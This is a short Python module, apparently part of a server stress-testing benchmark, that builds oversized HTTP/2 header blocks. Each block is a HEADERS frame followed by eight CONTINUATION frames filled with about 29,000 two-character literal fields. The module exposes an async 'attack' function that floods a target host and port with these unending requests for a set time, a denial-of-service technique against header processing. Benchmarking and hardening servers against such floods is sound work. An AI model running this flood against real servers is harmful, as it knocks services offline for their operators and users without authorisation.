"""Header blocks of 147 KB, HEADERS and 8 CONTINUATION frames, of literals of two characters each: 29,000 fields in a
block.
"""

from __future__ import annotations

import ssl
from collections.abc import Iterator

from benchmarks.hostile import wire

CONFIG: str | None = None

SIZE = 9 * wire.LARGEST_FRAME
"""Bytes of a block: HEADERS and 8 CONTINUATION frames."""
_TINY_LITERAL = b"\0\x01a\x01b"


def blocks_of(field: bytes) -> Iterator[bytes]:
    """Requests without an end, each with a usual header list and this field as often as it fits."""
    usual = wire.block_of()
    block = usual + field * ((SIZE - len(usual)) // len(field))
    for stream_id in wire.stream_ids():
        yield wire.split(stream_id, block)


def sending() -> Iterator[bytes]:
    return blocks_of(_TINY_LITERAL)


async def attack(host: str, port: int, seconds: float, tls: ssl.SSLContext | None = None) -> int:
    return await wire.flood(host, port, seconds, tls, sending)
